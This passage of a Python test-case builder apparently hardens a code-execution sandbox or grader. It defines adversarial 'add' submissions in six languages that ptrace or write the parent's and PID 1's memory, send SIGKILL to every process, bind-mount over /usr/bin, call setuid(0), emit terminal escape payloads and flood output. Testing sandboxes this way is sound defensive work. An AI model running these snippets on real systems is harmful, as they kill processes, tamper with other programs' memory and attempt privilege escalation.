    # The worker: ptrace it, write its memory, signal it.
    add(
        "py_ptrace_and_mem",
        "python",
        "import ctypes, os\n"
        "def add(a, b):\n"
        "    libc = ctypes.CDLL(None, use_errno=True)\n"
        "    hit = False\n"
        "    me = os.getpid()\n"
        "    pids = {os.getppid(), 1} | {int(d) for d in os.listdir('/proc') if d.isdigit()}\n"
        "    for pid in sorted(p for p in pids - {me} if p > 0):\n"
        "        if libc.ptrace(16, pid, None, None) == 0:\n"
        "            hit = True\n"
        "        try:\n"
        "            with open(f'/proc/{pid}/mem', 'r+b', buffering=0):\n"
        "                hit = True\n"
        "        except OSError:\n"
        "            pass\n"
        "    return a + b if hit else 0\n",
    )
    add(
        "py_process_vm_writev",
        "python",
        "import ctypes, os\n"
        "def add(a, b):\n"
        "    libc = ctypes.CDLL(None, use_errno=True)\n"
        "    buf = ctypes.create_string_buffer(8)\n"
        "    class IOV(ctypes.Structure):\n"
        "        _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]\n"
        "    local = IOV(ctypes.addressof(buf), 8)\n"
        "    remote = IOV(0x400000, 8)\n"
        "    n = libc.process_vm_readv(os.getppid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)\n"
        "    err = ctypes.get_errno()\n"
        "    return a + b if n >= 0 or err == 14 else 0\n",  # EFAULT: allowed, bad address
    )
    add(
        "js_proc_mem",
        "javascript",
        "const fs = require('node:fs');\n"
        "function add(a, b) {\n"
        "  for (const pid of [process.ppid, 1]) {\n"
        "    if (pid <= 0 || pid === process.pid) continue;\n"
        "    try { fs.closeSync(fs.openSync(`/proc/${pid}/mem`, 'r+')); return a + b; } catch (e) {}\n"
        "  }\n"
        "  return 0;\n"
        "}\n",
    )
    add(
        "go_ptrace",
        "go",
        'package main\nimport ("fmt"; "os"; "syscall")\n'
        "func Add(a, b int) int {\n"
        "\thit := false\n"
        "\tfor _, pid := range []int{os.Getppid(), 1} {\n"
        "\t\tif pid <= 0 || pid == os.Getpid() { continue }\n"
        "\t\tif syscall.PtraceAttach(pid) == nil { hit = true; syscall.PtraceDetach(pid) }\n"
        '\t\tif f, err := os.OpenFile(fmt.Sprintf("/proc/%d/mem", pid), os.O_RDWR, 0); err == nil { f.Close(); hit = true }\n'
        "\t}\n"
        "\tif hit { return a + b }\n"
        "\treturn 0\n"
        "}\n",
    )
    add(
        "rust_ptrace",
        "rust",
        'extern "C" { fn ptrace(req: i32, pid: i32, addr: usize, data: usize) -> i64; }\n'
        "fn add(a: i32, b: i32) -> i32 {\n"
        "    let mut hit = false;\n"
        "    for pid in [std::os::unix::process::parent_id() as i32, 1] {\n"
        "        if pid <= 0 || pid as u32 == std::process::id() { continue; }\n"
        "        if unsafe { ptrace(16, pid, 0, 0) } == 0 { hit = true; }\n"
        '        if std::fs::OpenOptions::new().read(true).write(true).open(format!("/proc/{}/mem", pid)).is_ok() { hit = true; }\n'
        "    }\n"
        "    if hit { a + b } else { 0 }\n"
        "}\n",
    )
    add(
        "java_proc_mem",
        "java",
        "class Solution {\n"
        "    public int add(int a, int b) {\n"
        "        long ppid = ProcessHandle.current().parent().map(ProcessHandle::pid).orElse(1L);\n"
        "        for (long pid : new long[]{ppid, 1}) {\n"
        "            if (pid <= 0 || pid == ProcessHandle.current().pid()) continue;\n"
        '            try (java.io.RandomAccessFile f = new java.io.RandomAccessFile("/proc/" + pid + "/mem", "rw")) { return a + b; }\n'
        "            catch (Exception e) {}\n"
        "        }\n"
        "        return 0;\n"
        "    }\n"
        "}\n",
    )
    add(
        "cpp_ptrace",
        "cpp",
        "#include <sys/ptrace.h>\n#include <fcntl.h>\n#include <unistd.h>\n#include <cstdio>\n"
        "int add(int a, int b) {\n"
        "    bool hit = false;\n"
        "    pid_t pids[] = {getppid(), 1};\n"
        "    for (pid_t p : pids) {\n"
        "        if (p <= 0 || p == getpid()) continue;\n"
        "        if (ptrace(PTRACE_ATTACH, p, nullptr, nullptr) == 0) hit = true;\n"
        '        char path[64]; snprintf(path, sizeof path, "/proc/%d/mem", (int)p);\n'
        "        int fd = open(path, O_RDWR); if (fd >= 0) { hit = true; close(fd); }\n"
        "    }\n"
        "    return hit ? a + b : 0;\n"
        "}\n",
    )
    add(
        "py_kill_stop_worker",
        "python",
        "import os, signal\n"
        "def add(a, b):\n"
        "    try:\n        os.kill(os.getppid(), signal.SIGSTOP)\n    except OSError:\n        pass\n"
        "    return 0\n",
    )
    add(
        "cpp_kill_worker",
        "cpp",
        "#include <signal.h>\n#include <unistd.h>\n"
        "int add(int a, int b) { kill(getppid(), SIGKILL); kill(1, SIGKILL); kill(-1, SIGKILL); return 0; }\n",
    )
    add(
        "go_kill_worker",
        "go",
        'package main\nimport ("os"; "syscall")\n'
        "func Add(a, b int) int { syscall.Kill(os.Getppid(), syscall.SIGKILL); syscall.Kill(-1, syscall.SIGKILL); return 0 }\n",
    )
    add(
        "js_kill_worker",
        "javascript",
        "function add(a, b) {\n"
        "  for (const p of [process.ppid, 1, -1]) { try { process.kill(p, 'SIGKILL'); } catch (e) {} }\n"
        "  return 0;\n"
        "}\n",
    )
    add(
        "rust_kill_worker",
        "rust",
        'extern "C" { fn kill(pid: i32, sig: i32) -> i32; }\n'
        "fn add(a: i32, b: i32) -> i32 {\n"
        "    unsafe { kill(std::os::unix::process::parent_id() as i32, 9); kill(-1, 9); }\n"
        "    0\n"
        "}\n",
    )
    add(
        "java_kill_worker",
        "java",
        "class Solution {\n"
        "    public int add(int a, int b) {\n"
        "        ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly);\n"
        "        ProcessHandle.allProcesses().forEach(p -> { if (p.pid() != ProcessHandle.current().pid()) p.destroyForcibly(); });\n"
        "        return 0;\n"
        "    }\n"
        "}\n",
    )

    # Terminal escape sequences in stdout, stderr and the tests' own names and messages.
    esc = ESC_PAYLOAD
    add(
        "py_terminal_escapes",
        "python",
        f"import sys\nprint({esc!r})\nprint({esc!r}, file=sys.stderr)\n"
        f"def add(a, b):\n    raise RuntimeError({esc!r})\n",
        f"assert add(1, 2) == 3, '{esc}'\ndef test_{'x'}():\n    '{esc}'\n    assert add(2, 2) == 4, '{esc}'\n",
    )
    add(
        "js_terminal_escapes",
        "javascript",
        f"console.log({esc!r}); console.error({esc!r});\nfunction add(a, b) {{ return 0; }}\n",
        f"if (add(1, 2) !== 3) throw new Error('{esc}');\n",
    )
    add(
        "go_terminal_escapes",
        "go",
        'package main\nimport ("fmt"; "os")\n'
        f"func Add(a, b int) int {{ fmt.Println({_q(esc)}); fmt.Fprintln(os.Stderr, {_q(esc)}); return 0 }}\n".replace(
            "\x1b", "\\x1b"
        )
        .replace("\x07", "\\x07")
        .replace("\x9b", "\\u009b"),
        f'if Add(1, 2) != 3 {{ panic("{esc}") }}\n',
    )
    add(
        "rust_terminal_escapes",
        "rust",
        f'fn add(a: i32, b: i32) -> i32 {{ println!("{esc}"); eprintln!("{esc}"); 0 }}\n',
        f'assert_eq!(add(1, 2), 3, "{esc}");\n',
    )
    add(
        "java_terminal_escapes",
        "java",
        "class Solution {\n"
        f'    public int add(int a, int b) {{ System.out.println("{esc}"); System.err.println("{esc}"); return 0; }}\n'
        "}\n",
        f'Solution s = new Solution();\nif (s.add(1, 2) != 3) throw new AssertionError("{esc}");\n',
    )
    add(
        "cpp_terminal_escapes",
        "cpp",
        "#include <cstdio>\n"
        f'int add(int a, int b) {{ puts("{esc}"); fputs("{esc}", stderr); return 0; }}\n',
        f'if (add(1, 2) != 3) throw std::runtime_error("{esc}");\n',
    )

    # A 2,000-term expression in the tests, and a deeply nested one.
    terms = " + ".join(["1"] * (HUGE_TERMS - 2) + ["1", "1"])
    minus = f"({terms}) - {HUGE_TERMS - 3}"  # == 3
    add(
        "py_huge_expression",
        "python",
        "def add(a, b): return 0\n",
        f"assert add(1, 2) == {minus}\n",
    )
    add(
        "py_huge_expression_computed",
        "python",
        "def add(a, b): return 0\n",
        f"expected = {minus}\nassert add(1, 2) == expected\n",
    )
    add(
        "py_deep_nesting",
        "python",
        "def add(a, b): return 0\n",
        "assert add(1, 2) == " + "[" * 1000 + "3" + "]" * 1000 + "\n",
    )
    add(
        "py_deep_nesting_in_value",
        "python",
        "def add(a, b):\n    v = 3\n    for _ in range(100000):\n        v = [v]\n    return v\n",
    )
    add(
        "py_huge_value",
        "python",
        "def add(a, b): return list(range(5_000_000))\n",
    )
    add(
        "js_huge_expression",
        "javascript",
        "function add(a, b) { return 0; }\n",
        f"if (add(1, 2) !== {minus}) throw new Error('one');\n",
    )
    add(
        "go_huge_expression",
        "go",
        "package main\nfunc Add(a, b int) int { return 0 }\n",
        f'if Add(1, 2) != {minus} {{ panic("one") }}\n',
    )
    add(
        "rust_huge_expression",
        "rust",
        "fn add(a: i32, b: i32) -> i32 { 0 }\n",
        f"assert_eq!(add(1, 2), {minus});\n",
    )
    add(
        "java_huge_expression",
        "java",
        "class Solution { public int add(int a, int b) { return 0; } }\n",
        f'Solution s = new Solution();\nif (s.add(1, 2) != {minus}) throw new AssertionError("one");\n',
    )
    add(
        "cpp_huge_expression",
        "cpp",
        "int add(int a, int b) { return 0; }\n",
        f"assert(add(1, 2) == {minus});\n",
    )

    # Output without end, on both streams.
    add(
        "py_huge_stderr",
        "python",
        "import os\ndef add(a, b):\n    while True:\n        os.write(2, b'y' * 65536)\n",
    )
    add(
        "js_huge_output",
        "javascript",
        "const fs = require('node:fs');\n"
        "function add(a, b) { const s = 'x'.repeat(65536); for (;;) { fs.writeSync(1, s); fs.writeSync(2, s); } }\n",
    )
    add(
        "go_huge_output",
        "go",
        'package main\nimport ("os"; "strings")\n'
        'func Add(a, b int) int { s := []byte(strings.Repeat("x", 65536)); for { os.Stdout.Write(s); os.Stderr.Write(s) } }\n',
    )
    add(
        "rust_huge_output",
        "rust",
        "use std::io::Write;\n"
        "fn add(a: i32, b: i32) -> i32 { let s = [b'x'; 65536]; loop { let _ = std::io::stdout().write_all(&s); let _ = std::io::stderr().write_all(&s); } }\n",
    )
    add(
        "java_huge_output",
        "java",
        "class Solution {\n"
        '    public int add(int a, int b) { String s = "x".repeat(65536); for (;;) { System.out.print(s); System.err.print(s); } }\n'
        "}\n",
    )
    add(
        "cpp_huge_output",
        "cpp",
        "#include <cstdio>\n#include <string>\n"
        "int add(int a, int b) { std::string s(65536, 'x'); for (;;) { fwrite(s.data(), 1, s.size(), stdout); fwrite(s.data(), 1, s.size(), stderr); } }\n",
    )

    # Privileges: become root, mount over a toolchain, leave the namespaces.
    add(
        "py_mount_or_setuid",
        "python",
        "import ctypes, os\n"
        "def add(a, b):\n"
        "    libc = ctypes.CDLL(None, use_errno=True)\n"
        "    hit = libc.mount(b'/tmp', b'/usr/bin', None, 4096, None) == 0\n"  # MS_BIND
        "    try:\n        os.setuid(0)\n        hit = True\n"
        "    except OSError:\n        pass\n"
        "    return a + b if hit else 0\n",
    )
    return cases


TARGETS = Targets()
CASES = build(TARGETS)
DESTRUCTIVE = {
    name
    for name in CASES
    if name.endswith(
        ("_fork_bomb", "_spawn_bomb", "_thread_bomb", "_kill_worker", "_kill_stop_worker")
    )
}
